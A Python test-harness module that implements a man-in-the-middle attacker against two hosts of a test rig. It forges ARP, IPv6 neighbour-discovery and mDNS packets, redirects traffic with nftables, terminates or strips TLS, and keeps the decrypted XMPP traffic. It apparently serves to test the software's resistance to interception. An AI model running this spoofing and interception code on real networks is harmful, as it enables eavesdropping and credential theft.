# SPDX-License-Identifier: LGPL-2.1-or-later
"""A man in the middle on the bridge: he takes the place between two hosts of the rig by forged ARP and neighbour discovery, or by forged
mDNS, and ends TLS on both sides with keys of his own (or passes it on untouched, or speaks no TLS at all). What he could read is kept.

    middle = Middle(lan.host("mallory", avahi="none"), juliet, romeo)
    middle.spoof_neighbours()            # from now on both ends send him what is meant for the other
    ...
    middle.read                          # what the two legs said, decrypted, as far as they said it
    middle.stop()

His relay is transparent: above TLS every byte is passed on as it is, header, SASL and all, so that whatever an end says to prove itself
reaches the other end on the same connection; below TLS he has his own certificate under the name of the one he imitates."""
import base64
import contextlib
import os
import re
import socket
import ssl
import struct
import threading
import time

import foe
import rig
from certs import Certificate
from peer import PORT, socket_in

TRAP = 7000  # where the packets end that were meant for another
EVERY = 0.2  # seconds between two rounds of lies: a kernel takes no new neighbour more often than once a second anyway


class Side:
    """One of the two, as seen from the middle."""

    def __init__(self, user, name):
        self.user, self.host, self.addr = user, user.host, "%s@%s" % (name, user.host.hostname)
        words = user.host.run("ip", "-o", "link", "show", "eth0").split()
        self.mac = bytes.fromhex(words[words.index("link/ether") + 1].replace(":", ""))
        self.v4, self.v6 = socket.inet_aton(user.host.address), socket.inet_pton(socket.AF_INET6, user.host.link_local())

    def is_at(self, address):
        """As accept() names the other end of a socket for both families."""
        address = address.split("%")[0].removeprefix("::ffff:")
        return (socket.inet_pton(socket.AF_INET6, address) == self.v6) if ":" in address else (socket.inet_aton(address) == self.v4)


class Leg:
    """One connection that he took: who called, what came of it."""

    def __init__(self, caller, callee):
        self.caller, self.callee = caller, callee
        self.clear = b""        # what was said on either side before or without TLS
        self.plain = b""        # what he decrypted, of both
        self.proof = None       # the certificate that the caller showed him
        self.tls = []           # whose TLS session with him was completed
        self.ended = None


def checksum(data):
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


class Middle:
    """`how`: "two" (a TLS session of his own with each), "through" (TLS passed on untouched), "strip" (no TLS is offered to the caller),
    "old" (two, at most TLS 1.2), "mute" (two, and he takes the SASL mechanisms out). `certificates`: his, by the name of the side imitated."""

    def __init__(self, host, *sides, how="two", certificates=None):
        self.host, self.how, self.legs = host, how, []
        self.sides = [Side(user, name) for user, name in sides]
        self.certificates = certificates
        if not certificates:
            self.renew()
        self.change = None      # change(leg, from_caller, bytes) -> bytes: what he makes of what passes inside TLS
        words = host.run("ip", "-o", "link", "show", "eth0").split()
        self.mac = bytes.fromhex(words[words.index("link/ether") + 1].replace(":", ""))
        self.v4, self.v6 = socket.inet_aton(host.address), socket.inet_pton(socket.AF_INET6, host.link_local())
        self.scope = int(words[0].rstrip(":"))
        self._liars, self._open = [], []
        for port in (TRAP, PORT):
            threading.Thread(target=self._serve, args=(self._listen(port),), daemon=True).start()

    def _listen(self, port):
        sock = socket_in(self.host, socket.AF_INET6)
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        sock.bind(("::", port))
        sock.listen(32)
        return sock

    # --- what he has

    @property
    def read(self):
        """Everything that he could read, inside TLS or without it."""
        return b"".join(leg.clear + leg.plain for leg in list(self.legs))

    def fingerprint(self, side):
        """Of the key by which he imitates that side."""
        return self.certificates[self.sides[side].addr].fp

    def renew(self):
        """Other keys from now on."""
        self.certificates = {side.addr: Certificate(self.host.dir, side.addr) for side in self.sides}

    def wait(self, predicate, timeout, what):
        tick = rig.GLib.timeout_add(50, lambda: True)
        try:
            return rig.wait(predicate, timeout, what)
        finally:
            rig.GLib.source_remove(tick)

    # --- taking the place: neighbours

    def spoof_neighbours(self):
        """ARP and IPv6 neighbour discovery: each side comes to believe that the other's addresses are at his interface."""
        self.host.run("sh", "-c", "nft -f - <<END\ntable inet middle {\nchain trap {\ntype nat hook prerouting priority -100; policy accept;\n"
                      "tcp dport %d redirect to :%d\n}\n}\nEND" % (PORT, TRAP))
        lies = self._neighbour_lies([(self.sides[0], self.sides[1], self.mac), (self.sides[1], self.sides[0], self.mac)])
        sock = self._packets()
        self._lie([lambda frame=frame: sock.send(frame) for frame in lies])
        self.wait(lambda: all(self._has_lied_to(*pair) for pair in (self.sides, self.sides[::-1])), 20, "the place between them")

    def _has_lied_to(self, victim, imitated):
        lines = victim.host.run("ip", "neigh", "show").splitlines()
        return all(any(line.startswith(address + " ") and self.mac.hex(":") in line for line in lines)
                   for address in (imitated.host.address, imitated.host.link_local()))

    def _neighbour_lies(self, who):
        frames = []
        for victim, imitated, at in who:
            ether = victim.mac + self.mac
            # A request: whom it asks must answer, and takes the sender's address from it (RFC 826).
            frames.append(ether + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, 1) + at + imitated.v4 + bytes(6) + victim.v4)
            frames.append(ether + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + at + imitated.v4 + victim.mac + victim.v4)
            # RFC 4861: the same by a solicitation, and by an advertisement that overrides.
            for kind, flags, target, option in ((135, 0, victim.v6, 1), (136, 0x20000000, imitated.v6, 2)):
                body = struct.pack(">BBHI", kind, 0, 0, flags) + target + bytes([option, 1]) + at
                pseudo = imitated.v6 + victim.v6 + struct.pack(">II", len(body), 58)
                body = body[:2] + struct.pack(">H", checksum(pseudo + body)) + body[4:]
                frames.append(ether + b"\x86\xdd" + struct.pack(">IHBB", 6 << 28, len(body), 58, 255) + imitated.v6 + victim.v6 + body)
        return frames

    def _packets(self):
        sock = socket_in(self.host, socket.AF_PACKET, socket.SOCK_RAW)
        sock.bind(("eth0", 0))
        return sock

    def _lie(self, lies):
        """Tells each of them again and again, from now until stop()."""
        stop, first = threading.Event(), threading.Event()

        def run():
            while not stop.is_set():
                for tell in lies:
                    with contextlib.suppress(OSError):
                        tell()
                first.set()
                stop.wait(EVERY)
        thread = threading.Thread(target=run, daemon=True)
        self._liars.append((stop, thread))
        thread.start()
        first.wait()

    # --- taking the place: names

    def spoof_names(self, spki=None, bare=False, host=False, quiet=True, ttl=4):
        """mDNS, with the cache-flush bit: where each side is to be found, by another SRV, or (`host`) by another address of the true host; with
        `spki` ({address: fingerprint}) the TXT, too, or (`bare`) one that offers nothing. `quiet`: to the other side alone, by unicast, so that whose name it is does not hear it."""
        lies = []
        for family in (socket.AF_INET, socket.AF_INET6):
            sock = self._responder(family)
            for victim, imitated in (self.sides, self.sides[::-1]):
                to = (victim.v4, "224.0.0.251") if family == socket.AF_INET else (victim.v6, "ff02::fb")
                to = socket.inet_ntop(family, to[0]) if quiet else to[1]
                lies.append((sock, self._forged(imitated, spki and spki[imitated.addr], bare, host, ttl), to))
        self._lie([lambda sock=sock, packet=packet, to=to: sock.sendto(packet, self._to(sock, to)) for sock, packet, to in lies])

    def _responder(self, family):
        """RFC 6762: from port 5353, with the hop limit 255."""
        sock = socket_in(self.host, family, socket.SOCK_DGRAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if family == socket.AF_INET:
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, self.v4)
            sock.bind((self.host.address, 5353))
        else:
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, self.scope)
            sock.bind((socket.inet_ntop(family, self.v6), 5353, 0, self.scope))
        return sock

    def _to(self, sock, address):
        return (address, 5353) if sock.family == socket.AF_INET else (address, 5353, 0, self.scope)

    def _forged(self, imitated, spki, bare, host, ttl):
        """An answer that says where `imitated` is: at his own address."""
        def label(text):
            return bytes([len(text)]) + text
        instance = label(imitated.addr.encode()) + foe.SERVICE
        target = label((b"" if host else b"at-") + imitated.host.hostname.encode()) + b"\x05local\0"
        records = []

        def add(name, kind, data, flush=0x8000):
            records.append(name + struct.pack(">HHIH", kind, 1 | flush, ttl, len(data)) + data)
        if not host:
            add(foe.SERVICE, 12, instance, flush=0)
            add(instance, 33, struct.pack(">HHH", 0, 0, TRAP) + target)
        add(target, 1, self.v4)
        add(target, 28, self.v6)
        if bare:
            add(instance, 16, b"".join(map(label, (b"txtvers=1", b"status=avail"))))
        if spki:
            hint = base64.urlsafe_b64encode(bytes.fromhex(spki)).rstrip(b"=")
            add(instance, 16, b"".join(map(label, (b"txtvers=1", b"status=avail", b"tls.spki=" + hint, b"tls.direct=1"))))
        return struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)

    # --- going away

    def stop(self):
        """He goes, and takes back what he said: ARP and ND again name the true interfaces, as the owners' own next words would."""
        spoofed = bool(self._liars)
        for stop, thread in self._liars:
            stop.set()
            thread.join(5)
        self._liars = []
        self.host.run("nft", "delete", "table", "inet", "middle", check=False)
        for sock in self._open:
            with contextlib.suppress(OSError):
                sock.close()
        self._open = []
        if spoofed:
            truth = self._neighbour_lies([(self.sides[0], self.sides[1], self.sides[1].mac), (self.sides[1], self.sides[0], self.sides[0].mac)])
            sock = self._packets()
            for frame in truth:
                sock.send(frame)
            sock.close()
            for side in self.sides:
                side.host.run("ip", "neigh", "flush", "dev", "eth0")

    # --- the relay

    def _serve(self, listener):
        while True:
            sock, where = listener.accept()
            threading.Thread(target=self._take, args=(sock, where[0]), daemon=True).start()

    def _take(self, sock, source):
        caller = next((side for side in self.sides if side.is_at(source)), None)
        if caller is None or not self._liars:
            sock.close()
            return
        callee = self.sides[1 - self.sides.index(caller)]
        leg = Leg(caller, callee)
        self.legs.append(leg)
        onward = None
        try:
            sock.settimeout(20 * rig.PATIENCE)
            onward = self.dial(callee)
            self._open += [sock, onward]
            if self.how == "through":
                self._pump(leg, sock, onward, "clear")
            else:
                self._relay(leg, sock, onward)
            leg.ended = "end"
        except (OSError, ssl.SSLError, ValueError) as why:
            leg.ended = "%s: %s" % (type(why).__name__, why)
        finally:
            for one in (sock, onward):
                if one:
                    with contextlib.suppress(OSError):
                        one.close()

    def dial(self, side):
        """A TCP connection of his own to the true one."""
        sock = socket_in(self.host)
        sock.settimeout(20 * rig.PATIENCE)
        sock.connect((side.host.address, PORT))
        return sock

    def server_context(self, imitated, caller):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.num_tickets = 0
        context.verify_mode = ssl.CERT_REQUIRED
        # Anybody's port shows its certificate; as an anchor it lets him demand the caller's without judging it.
        context.verify_flags |= 0x80000
        context.load_verify_locations(os.path.join(caller.user.data_dir, "identity.crt"))
        return self._fill(context, imitated)

    def client_context(self, imitated):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        return self._fill(context, imitated)

    def _fill(self, context, imitated):
        context.set_ciphers("DEFAULT:@SECLEVEL=0")
        if self.how == "old":
            context.minimum_version = context.maximum_version = ssl.TLSVersion.TLSv1_2
        context.load_cert_chain(self.certificates[imitated.addr].pem)
        context.set_alpn_protocols(["xmpp-client"])
        return context

    def _relay(self, leg, sock, onward):
        first = sock.recv(1, socket.MSG_PEEK)
        direct = first == b"\x16"
        if not direct and not self._clear(leg, sock, onward):
            return
        # The caller first: whether he gets so far depends on whom it expects.
        near = self.server_context(leg.callee, leg.caller).wrap_socket(sock, server_side=True)
        leg.tls.append("caller")
        leg.proof = near.getpeercert(True)
        far = self.client_context(leg.caller).wrap_socket(onward)
        leg.tls.append("callee")
        self._open += [near, far]
        self._pump(leg, near, far, "plain", change=self.change)

    def _clear(self, leg, sock, onward):
        """Everything up to <proceed/>, with the offer taken out if he strips. FALSE: the two said what they had to say without TLS."""
        if self.how == "strip":
            self._pump(leg, sock, onward, "clear", change=lambda leg, from_caller, data: data if from_caller else
                       re.sub(b"<starttls.*?</starttls>", b"", data))
            return False
        self._pump(leg, sock, onward, "clear", until=b"<proceed xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
        return True

    def _pump(self, leg, near, far, kept, until=None, change=None):
        """Bytes both ways until an end, or until the callee said `until`."""
        near.setblocking(False)
        far.setblocking(False)
        end, heard = time.monotonic() + 120 * rig.PATIENCE, b""
        while time.monotonic() < end:
            moved = False
            for source, sink in ((near, far), (far, near)):
                try:
                    data = source.recv(65536)
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                    continue
                if not data:
                    return
                moved = True
                setattr(leg, kept, getattr(leg, kept) + data)
                if change:
                    data = change(leg, source is near, data)
                sink.setblocking(True)
                sink.sendall(data)
                sink.setblocking(False)
                heard += data if source is far else b""
            if until and until in heard:
                near.setblocking(True)
                far.setblocking(True)
                return
            if not moved:
                time.sleep(0.005)
